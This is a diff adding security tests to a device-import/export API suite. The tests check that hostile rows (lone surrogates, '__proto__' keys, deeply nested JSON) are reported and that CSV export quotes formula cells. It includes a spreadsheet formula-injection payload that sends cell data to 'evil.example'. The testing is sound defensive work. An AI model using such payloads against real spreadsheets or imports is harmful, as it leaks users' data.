@@ -230,6 +230,32 @@ for (const dialect of dialectCases()) {
         expect((await ts.request('GET', '/readyz', { key: null })).status).toBe(200);
       });
 
+      it('reports rows with lone surrogates, prototype keys or deep nesting, and writes the good ones', async () => {
+        const own = await adminKeyFor('csv-hostile');
+        const csv = [
+          'id,typeId,name,attributes',
+          'hx-1,meter,plain,{}',
+          'hx-2,meter,ok,"{""\\ud800"":1}"',
+          `hx-3,meter,ok,"{""a"":${'['.repeat(70)}${']'.repeat(70)}}"`,
+          'hx-4,meter,ok,"{""__proto__"":{""x"":1}}"',
+          'hx-5,meter,fine,"{""n"":""\\ud83d\\ude80""}"',
+        ].join('\n');
+        const response = await importBody(own, '', csv, CSV);
+        expect(response.status, response.text).toBe(200);
+        const codes = (response.body.errors as Array<{ line: number; code: string }>).map((e) => [
+          e.line,
+          e.code,
+        ]);
+        expect(codes).toEqual([
+          [3, 'invalid_text'],
+          [4, 'json_too_deep'],
+          [5, 'forbidden_key'],
+        ]);
+        expect((await ts.request('GET', '/v1/devices/hx-5', { key: own })).body.attributes).toEqual({
+          n: '🚀',
+        });
+      });
+
       it('answers malformed_body to a CSV that cannot be parsed, and writes nothing in atomic mode', async () => {
         const before = await deviceIds(key);
         const response = await importBody(
@@ -247,6 +273,28 @@ for (const dialect of dialectCases()) {
       let key = '';
       beforeAll(async () => {
         key = await adminKeyFor('nd');
+      });
+
+      it('reports lines with lone surrogates, prototype keys or deep nesting instead of failing', async () => {
+        const own = await adminKeyFor('ndjson-hostile');
+        const lines = [
+          '{"id":"nx-1","typeId":"meter","name":"half \\ud800"}',
+          `{"id":"nx-2","typeId":"meter","attributes":{"a":${'['.repeat(8000)}${']'.repeat(8000)}}}`,
+          '{"id":"nx-3","typeId":"meter","__proto__":{"x":1}}',
+          '{"id":"nx-4","typeId":"meter","name":"whole \\ud83d\\ude80"}',
+        ].join('\n');
+        const response = await importBody(own, '', lines, NDJSON);
+        expect(response.status, response.text).toBe(200);
+        const codes = (response.body.errors as Array<{ line: number; code: string }>).map((e) => [
+          e.line,
+          e.code,
+        ]);
+        expect(codes).toEqual([
+          [1, 'invalid_text'],
+          [2, 'json_too_deep'],
+          [3, 'forbidden_key'],
+        ]);
+        expect((await ts.request('GET', '/v1/devices/nx-4', { key: own })).body.name).toBe('whole 🚀');
       });
 
       it('imports good lines and reports bad ones by line number, blank lines counted', async () => {
@@ -280,7 +328,7 @@ for (const dialect of dialectCases()) {
           [7, 'invalid_tags'],
           [8, 'invalid_attributes'],
           [9, 'invalid_name'],
-          [10, 'unknown_field'],
+          [10, 'forbidden_key'],
         ]);
         expect(await deviceIds(key)).toEqual(['n-1', 'n-10']);
         expect((await ts.request('GET', '/v1/devices/n-1', { key })).body).toMatchObject({
@@ -445,6 +493,35 @@ for (const dialect of dialectCases()) {
             expect(rows.length - (format === 'csv' ? 1 : 0), `${format} ${query}`).toBe(count);
           }
         }
+      });
+
+      it('quotes cells a spreadsheet would run as formulas, and imports them back unchanged', async () => {
+        const key = await adminKeyFor('formulas');
+        const names = [
+          '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+          '+1 meter',
+          '-5 sensor',
+          '@SUM(A1:A9)',
+          "'quoted already",
+        ];
+        for (const [index, name] of names.entries()) {
+          const response = await ts.request('POST', '/v1/devices', {
+            key,
+            json: { id: `f-${index}`, typeId: 'meter', name, tags: { formula: '=1+1' } },
+          });
+          expect(response.status, response.text).toBe(201);
+        }
+        const exported = await ts.request('GET', '/v1/devices/export?format=csv', { key });
+        expect(exported.status).toBe(200);
+        const cells = exported.text.split(/[\n,]/);
+        // No cell, quoted or not, begins with a formula character once its CSV quotes are off.
+        for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
+        expect(exported.text).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
+        expect(exported.text).toContain("''quoted already");
+        const target = await adminKeyFor('formulas-copy');
+        const imported = await importBody(target, '?atomic=true', exported.text, CSV);
+        expect(imported.body).toMatchObject({ committed: true, created: names.length, failed: 0 });
+        expect(comparable(await allDevices(target))).toEqual(comparable(await allDevices(key)));
       });
 
       for (const format of ['ndjson', 'csv'] as const) {
